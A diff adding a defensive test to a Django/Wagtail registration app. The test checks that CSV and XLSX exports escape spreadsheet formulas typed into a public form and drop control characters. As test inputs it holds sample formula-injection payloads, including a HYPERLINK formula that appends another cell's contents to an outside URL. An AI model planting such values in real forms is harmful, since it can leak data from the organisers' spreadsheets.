@@ -20,7 +20,7 @@ from strukturwandel.registration.models import (
 from strukturwandel.registration.wagtail_hooks import registration_admin
 from tests.apps import factories as f
 
-from .conftest import CALL_LINK
+from .conftest import CALL_LINK, form_data
 
 pytestmark = pytest.mark.django_db
 
@@ -126,6 +126,35 @@ def test_export_csv_and_xlsx(client, django_user_model, registrations, meeting):
     assert values[0][2] == "Name" and len(values) == 3
     assert {row[3] for row in values[1:]} == {"erika@example.org", "max@example.org"}
     assert "Frage" in [row[5] for row in values[1:]]
+
+
+def test_exports_hold_what_visitors_typed_safely(client, send, django_user_model, meeting):
+    # What anyone may type into the public form, as an organiser's spreadsheet reads it.
+    formula = '=HYPERLINK("https://example.org/?"&C3,"Details")'
+    url = reverse("strukturwandel_registration:register", args=[meeting.pk])
+    fields = {"name": formula, "email": "formel@example.org", "organisation": "+49 341 123-45"}
+    fields["note"] = "Klingel\x07 und Escape\x1b[31m"
+    send(url, form_data(**fields))
+    send(url, form_data(name="@SUM(1+1)", email="summe@example.org", note=""))
+    client.force_login(make_user(django_user_model, "orga", organiser=True))
+    index = registration_admin.url_helper.index_url
+
+    response = client.get(index, {"export": "csv"})
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = {row[3]: row for row in csv.reader(io.StringIO(content))}
+    # A formula stays text (the apostrophe); a phone number and the empty "-" stay as they are.
+    assert rows["formel@example.org"][2] == "'" + formula
+    assert rows["formel@example.org"][4] == "+49 341 123-45"
+    assert rows["summe@example.org"][2] == "'@SUM(1+1)"
+    assert rows["summe@example.org"][5] == "-"
+
+    # The worksheet cannot hold control characters: the export drops them, not the request.
+    response = client.get(index, {"export": "xlsx"})
+    assert response.status_code == 200
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    rows = {row[3]: row for row in workbook.active.iter_rows(values_only=True)}
+    assert rows["formel@example.org"][2] == formula
+    assert rows["formel@example.org"][5] == "Klingel und Escape[31m"
 
 
 def test_edit_marks_attendance(client, django_user_model, registrations):
